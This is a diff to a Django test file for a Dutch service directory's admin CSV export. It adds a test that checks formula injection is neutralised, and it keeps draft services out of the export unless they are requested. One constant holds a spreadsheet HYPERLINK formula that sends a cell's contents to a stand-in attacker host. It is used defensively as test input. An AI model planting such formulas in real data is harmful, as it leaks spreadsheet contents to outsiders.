@@ -97,9 +97,27 @@ def test_export_of_the_current_filter(admin_client, diensten):
     assert text.startswith("\ufeff")
     rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
     assert rows[0] == KOLOMMEN
-    assert sorted(row[1] for row in rows[1:]) == ["Buurtkamer Oost", "Nieuw initiatief"]
+    assert [row[1] for row in rows[1:]] == ["Buurtkamer Oost"]  # the draft only when asked for
     listing = admin_client.get(reverse(LIST) + "?landelijk=false")
     assert b"CSV exporteren" in listing.content and b"CSV importeren" in listing.content
+    assert b"CSV exporteren, met concepten" in listing.content
+    response = admin_client.get(reverse(LIST) + "?landelijk=false&export=csv&concepten=ja")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert sorted(row[1] for row in rows[1:]) == ["Buurtkamer Oost", "Nieuw initiatief"]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
+
+
+def test_export_runs_no_formula_from_a_submitted_service(admin_client, diensten):
+    DienstFactory(naam=HYPERLINK, aanbieder="@Buurtzorg", live=False)  # as the public form makes it
+    response = admin_client.get(reverse(LIST) + "?export=csv&concepten=ja")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    rij = next(row for row in rows if "HYPERLINK" in row[1])
+    assert rij[1] == "'" + HYPERLINK and rij[KOLOMMEN.index("aanbieder")] == "'@Buurtzorg"
+    assert not [cel for row in rows for cel in row if cel.startswith(("=", "+", "-", "@"))]
+    response = admin_client.get(reverse(LIST) + "?export=csv")
+    assert "HYPERLINK" not in response.content.decode("utf-8-sig")  # a draft: left out
 
 
 def upload(client, data, name="diensten.csv"):
